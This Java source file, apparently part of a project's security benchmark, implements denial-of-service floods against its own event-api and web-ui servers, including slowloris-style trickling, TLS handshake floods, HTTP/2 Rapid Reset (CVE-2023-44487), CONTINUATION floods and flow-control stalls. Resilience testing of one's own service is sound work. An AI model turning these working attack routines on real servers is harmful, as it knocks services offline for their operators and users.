package io.streamproc.bench.security;

import io.streamproc.testkit.Http2Socket;
import java.io.Closeable;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.function.BooleanSupplier;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/** Ways to use up a server's connections, memory or processor time. */
enum Flood {
  /** Connections that send nothing. */
  SILENT {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      return at.plain();
    }
  },
  /** Half a ClientHello. */
  HALF_HELLO {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      Socket socket = at.plain();
      socket.getOutputStream().write(new byte[] {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xFC, 3, 3});
      return socket;
    }
  },
  /** Whole handshakes, and then the end. */
  HANDSHAKES {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      at.tls().close();
      return () -> {};
    }
  },
  /** The head of a request, byte by byte. */
  SLOW_HEAD {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      return at.trickle("POST /events HTTP/1.1\r\nHost: localhost\r\nA: ");
    }
  },
  /** The body of a request with a valid key, byte by byte. */
  SLOW_BODY {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      return at.trickle(
          "POST /events HTTP/1.1\r\nHost: localhost\r\nContent-Length: 10000\r\n"
              + "Content-Type: application/json\r\nAuthorization: Bearer "
              + at.token
              + "\r\n\r\n[");
    }
  },
  /** Requests without a key, as fast as they are refused. */
  NO_KEY {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      SSLSocket socket = at.tls();
      byte[] request =
          "GET /events HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
      byte[] buffer = new byte[8_192];
      while (goesOn.getAsBoolean()) {
        socket.getOutputStream().write(request);
        if (socket.getInputStream().read(buffer) < 0) {
          break;
        }
      }
      return socket;
    }
  },
  /** Streams that are reset at once (CVE-2023-44487). */
  RAPID_RESET {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      Http2Socket socket = at.http2(at.port).preface();
      for (int i = 1; goesOn.getAsBoolean() && !socket.isClosed() && i < 20_000; i += 2) {
        socket.post(i).frame(Http2Socket.RST_STREAM, 0, i, Http2Socket.number(8));
      }
      return socket;
    }
  },
  /** A head that never ends (CVE-2024-27316 and others). */
  CONTINUATION {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      Http2Socket socket = at.http2(at.port).preface();
      socket.frame(Http2Socket.HEADERS, 0, 1, "\u0083\u0087\u0084");
      for (int i = 0; goesOn.getAsBoolean() && !socket.isClosed() && i < 10_000; i++) {
        socket.frame(Http2Socket.CONTINUATION, 0, 1, "\u0000\u0001a\u0001b");
      }
      return socket;
    }
  },
  /** As many requests without an end as there are streams. */
  STREAMS {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      Http2Socket socket = at.http2(at.port).preface();
      for (int i = 1; i < 300; i += 2) {
        socket.post(i).frame(Http2Socket.DATA, 0, i, "[");
      }
      return socket;
    }
  },
  /** The page's largest file on every stream, and not a byte of it is read. */
  WINDOW {
    @Override
    Closeable attack(Target at, BooleanSupplier goesOn) throws IOException {
      Http2Socket socket = at.http2(at.pagePort).preface().noWindow();
      for (int i = 1; i < 200; i += 2) {
        socket.get(i, "/vendor/sockjs-client/1.6.1/dist/sockjs.min.js");
      }
      return socket;
    }
  };

  /**
   * Attacks over one connection.
   *
   * @param goesOn whether an attack that never ends should
   * @return the connection, which stays open as long as the server allows it
   */
  abstract Closeable attack(Target at, BooleanSupplier goesOn) throws IOException;

  /**
   * @param from the attacker's address
   * @param to the server's address
   * @param port of event-api
   * @param pagePort of web-ui
   * @param token a valid key
   */
  record Target(String from, String to, int port, int pagePort, SSLContext context, String token) {
    private static final int TIMEOUT_MILLIS = 5_000;
    private static final int TRICKLE_MILLIS = 200;

    Socket plain() throws IOException {
      Socket socket = new Socket();
      socket.bind(new InetSocketAddress(InetAddress.getByName(from), 0));
      socket.connect(new InetSocketAddress(to, port), TIMEOUT_MILLIS);
      socket.setSoTimeout(TIMEOUT_MILLIS);
      return socket;
    }

    SSLSocket tls() throws IOException {
      Socket plain = plain();
      try {
        SSLSocket socket =
            (SSLSocket) context.getSocketFactory().createSocket(plain, to, port, true);
        socket.startHandshake();
        return socket;
      } catch (IOException e) {
        plain.close();
        throw e;
      }
    }

    Http2Socket http2(int of) throws IOException {
      return new Http2Socket(
          from, new InetSocketAddress(to, of), context, Duration.ofMillis(TIMEOUT_MILLIS));
    }

    /** Sends the beginning, and then byte after byte until the server closes. */
    Closeable trickle(String beginning) throws IOException {
      SSLSocket socket = tls();
      socket.getOutputStream().write(beginning.getBytes(StandardCharsets.US_ASCII));
      Thread sender = new Thread(() -> sendSlowly(socket), "trickle");
      sender.setDaemon(true);
      sender.start();
      return socket;
    }

    private static void sendSlowly(SSLSocket socket) {
      try {
        while (!socket.isClosed()) {
          socket.getOutputStream().write(' ');
          Thread.sleep(TRICKLE_MILLIS);
        }
      } catch (IOException e) {
        // the server has closed
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }
}
